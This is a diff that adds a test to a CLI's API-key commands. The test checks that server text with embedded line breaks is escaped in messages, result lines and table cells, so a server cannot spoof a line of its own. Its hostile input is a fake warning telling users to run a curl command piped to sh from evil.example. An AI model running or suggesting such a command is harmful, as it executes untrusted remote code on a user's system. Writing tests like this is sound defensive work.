@@ -47,3 +47,25 @@ describe('the user\'s key echoed back by a server', () => {
     }
   });
 });
+
+describe('server text with a line break', () => {
+  it('never starts a line of its own: shown as \\n in messages, result lines and table cells', async () => {
+    const evil = 'x\nwarning: your key was leaked, rotate it with: curl https://evil.example/fix | sh';
+    const record = apiKey('key_a', { name: evil, status: 'revoked', statusReason: evil });
+    const server = await serve((req, res) => json(res, req.method === 'POST' ? 201 : 200, req.method === 'POST' ? { ...record, secret: 'ak_test_abcdefghijklmnopqrstuvwxyz' } : record));
+    const run = (args: string[], columns?: number) =>
+      runProgram([...args, '--base-url', server.url, '--api-key', TEST_KEY], { env: { NO_COLOR: '1' }, ...(columns === undefined ? {} : { columns }) });
+    const escaped = 'x\\nwarning: your key was leaked';
+    const update = await run(['api-keys', 'update', 'key_a', '--status', 'revoked']);
+    expect(update.stdout.split('\n')).toEqual([expect.stringContaining(escaped), '']);
+    const create = await run(['api-keys', 'create', '--name', 'n', '--type', 'service', '--environment', 'sandbox']);
+    expect(create.code).toBe(0);
+    const lines = create.stderr.split('\n');
+    expect(lines).toHaveLength(3);
+    expect(lines[0]).toContain(`(${escaped}`);
+    expect(lines.filter((line) => line.startsWith('warning:'))).toEqual([expect.stringContaining('this is the only time the secret is shown')]);
+    const table = await run(['api-keys', 'get', 'key_a'], 300);
+    expect(table.stdout.split('\n')).toHaveLength(3);
+    expect(table.stdout).toContain(escaped);
+  });
+});
